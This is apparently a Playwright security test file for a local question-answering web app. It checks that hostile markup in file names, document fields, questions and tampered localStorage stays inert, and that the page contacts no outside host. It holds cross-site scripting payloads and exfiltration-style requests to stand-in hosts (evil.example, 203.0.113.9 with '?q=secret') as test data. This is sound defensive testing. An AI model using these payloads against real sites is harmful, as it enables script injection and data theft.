import json

import pytest
from playwright.sync_api import expect

from tests.browser.steps import add_files, ask, remove, width_beyond_the_window

HOSTILE = "<img src=x onerror=window.hacked=1><script>window.hacked=2</script>{{constructor}}${window.hacked=3}"


@pytest.mark.case(46)
def test_words_that_look_like_markup_are_words(page, served, tmp_path):
    addresses = []
    page.on("request", lambda request: addresses.append(request.url))
    fields = {
        "title": f"Fog {HOSTILE}",
        "outlet": f"Outlet {HOSTILE}",
        "author": f'"><svg onload=window.hacked=4> {HOSTILE}',
        "date": "2025-05-04",
        "url": "javascript:window.hacked=5",
        "text": f"The fog horn sounds {HOSTILE} every thirty seconds. ![x](http://evil.example/a.png?q=fog) was here.",
    }
    file = tmp_path / "<img src=x onerror=window.hacked=6>.jsonl"
    file.write_text(json.dumps(fields), "utf-8")
    damaged = tmp_path / "<svg onload=window.hacked=7>.pdf"
    damaged.write_bytes(b"%PDF-1.4")
    add_files(page, file, damaged)
    expect(page.locator("#progress")).to_contain_text("1 added · 1 not added")
    page.get_by_text("1 file or page was not added").click()
    page.locator(".fail", has_text=".pdf").get_by_role("button", name="Dismiss").click()

    turn = ask(page, f"How often does the fog horn sound? {HOSTILE}")
    expect(turn.locator(".q")).to_contain_text(HOSTILE)
    turn.get_by_role("button", name="Citation").first.click()
    turn.get_by_role("button", name="Citation").first.hover()
    page.locator(".quote.on").get_by_role("link", name="Open in source").click()
    expect(page.locator(".reader h1")).to_have_text(f"Fog {HOSTILE}")
    page.reload()
    expect(page.locator(".reader h1")).to_have_text(f"Fog {HOSTILE}")
    page.get_by_role("link", name="Back").click()
    page.get_by_role("button", name="Conversations").click()
    expect(page.locator("#history .open").first).to_contain_text("How often")
    page.keyboard.press("Escape")
    remove(page, f"Fog {HOSTILE}")

    assert page.evaluate("window.hacked") is None
    assert [address for address in addresses if not address.startswith((served.address, "data:", "blob:"))] == []


def test_the_page_asks_nothing_of_any_other_machine(context, served):
    addresses = []
    context.on("request", lambda request: addresses.append(request.url))
    page = context.new_page()
    page.goto(served.address)
    expect(page.locator("#sources .src").first).to_be_visible()
    ask(page, "When was the lamp made?")
    assert len(addresses) > 10
    assert [address for address in addresses if not address.startswith((served.address, "data:", "blob:"))] == []


@pytest.mark.case(40)
def test_the_page_may_not_reach_elsewhere_even_if_told_to(page):
    blocked = page.evaluate("""async () => {
        const image = await new Promise((done) => {
            const made = new Image();
            made.onload = made.onerror = (event) => done(event.type);
            made.src = "http://203.0.113.9/x.png?q=secret";
        });
        const fetched = await fetch("http://203.0.113.9/").then(() => "sent", () => "refused");
        return [image, fetched];
    }""")
    assert blocked == ["error", "refused"]


@pytest.mark.parametrize("headers", [{"Host": "evil.example"}, {"Origin": "https://evil.example"}])
def test_other_sites_are_refused(page, served, headers):
    assert page.request.get(served.address, headers=headers).status == 403
    assert page.request.post(served.address + "gradio_api/queue/join", headers=headers, data={}).status == 403


def test_a_kept_conversation_that_was_tampered_with_is_inert(page):
    ask(page, "When was the lamp made?")
    page.evaluate("""(hostile) => {
        const key = Object.keys(localStorage).find((each) => each.startsWith("byline.conversation."));
        const turns = JSON.parse(localStorage.getItem(key));
        const answer = turns[0].answer;
        answer.citations[0].title = answer.statements[0].text = answer.notice = turns[0].question = hostile;
        turns.push({ id: hostile, question: hostile, scope: hostile, answer: { mode: hostile } });
        localStorage.setItem(key, JSON.stringify(turns));
    }""", HOSTILE)  # fmt: skip
    page.reload()
    expect(page.locator(".turn .bar")).to_have_count(2)
    expect(page.locator(".turn").last).to_contain_text("comes from another version")
    assert page.evaluate("window.hacked") is None
    assert width_beyond_the_window(page) <= 0


def test_a_browser_that_kept_nonsense_starts_afresh(page):
    page.evaluate("localStorage.setItem('byline.conversations', '{oops')")
    page.reload()
    expect(page.locator(".welcome")).to_be_visible()
    expect(ask(page, "When was the lamp made?")).to_contain_text("Antwerp in 1887")
